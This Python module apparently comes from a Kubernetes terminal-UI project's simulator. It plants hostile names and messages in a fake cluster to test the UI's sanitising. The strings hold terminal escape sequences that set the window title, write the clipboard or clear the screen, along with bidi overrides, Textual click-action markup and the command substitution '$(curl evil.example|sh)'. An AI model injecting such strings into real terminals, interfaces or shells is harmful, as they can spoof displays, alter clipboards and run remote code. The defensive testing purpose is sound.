"""Hostile text in the simulated cluster (`SimOptions(hostile_text=True)`).

Nothing validates what metrics-server, another APIService backend, a webhook
or a pod's status writer puts in names, reasons and messages. With the option
on, the cluster has a node, two namespaces, a pod and its container named with
terminal escape sequences, CR, bidi overrides and Textual markup; that pod's
container waits with such a reason; /version and `kubectl auth whoami` answer
with such texts, and a denied access review gives such a reason.
`Faults.hostile_errors` makes requests fail with such a Status message.

Names avoid `/`, `?`, `#` and `%`, which would change the request paths
built from them.
"""

from __future__ import annotations

import random

from ktopui.sim.world import C, Node, PodFactory, Template, World

TITLE = "\x1b]0;owned\x07"  # sets the terminal's title
CLIPBOARD = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # writes the clipboard
CLEAR = "\x1b[2J"  # clears the screen
# Textual markup: a link; an action run on a click; one its parser rejects (MarkupError).
LINK = "[link=evil.example]L"
CLICK = "[@click=app.screenshot('pwned.svg','.')]clickme"
BAD_MARKUP = "[link=mailto:evil@evil.example]mail"

NODE = f"ip-10-66-6-6{CLEAR}\rnode\u202elanretni"
NAMESPACE = f"ns{TITLE}\u2066evil\x9b31m{BAD_MARKUP}"  # the hostile pod's; \x9b is the 8-bit CSI
MARKUP_NAMESPACE = CLICK  # what the namespace "sandbox" is called instead
POD = f"pod{CLIPBOARD}{LINK}\u200b"
CONTAINER = f"ctr\x9b2J\u202b{CLICK}\x07"
WAITING_REASON = f"Crash{CLEAR}Loop\rBackOff\u202e[b]bold"
VERSION = f"v1.33.1{TITLE}\u202e"
USER = f"jane{CLEAR} $(curl evil.example|sh)"
STATUS_MESSAGE = f"etcdserver: {TITLE}leader changed\r{LINK}\u202e {CLICK} [link=https://evil.example]L[/link]"

RENAMED_NAMESPACES = {"sandbox": MARKUP_NAMESPACE}


def add_to(world: World, rng: random.Random, start: float) -> None:
    """Rename one schedulable worker node and the namespace "sandbox", and add a
    static pod (never replaced by churn) with a hostile name, namespace and
    container to that node, its container waiting with a hostile reason."""
    node = next((n for n in world.nodes if n.ready and not n.unschedulable and not n.cp_taint), None)
    if node is None:
        return
    _rename(node, NODE)
    for pod in world.pods:
        if pod.namespace in RENAMED_NAMESPACES:
            pod.namespace = pod.workload.namespace = RENAMED_NAMESPACES[pod.namespace]
    names = {RENAMED_NAMESPACES.get(name, name): born for name, born in world.namespaces.items()}
    names[NAMESPACE] = start - 86400
    world.namespaces = dict(sorted(names.items()))
    factory = PodFactory(rng)
    template = Template(POD, "Static", (C(CONTAINER, "docker.io/library/busybox:1.37", 10, 16 << 20),),
                        namespace=NAMESPACE)
    created = start - 3600
    pod = factory.pod(factory.workload(template), node, created, started=created + 5, name=POD)
    pod.waiting = WAITING_REASON
    node.pods[pod.uid] = pod
    world.pods.append(pod)


def _rename(node: Node, name: str) -> None:
    node.name = name
    node.labels = {**node.labels, "kubernetes.io/hostname": name}
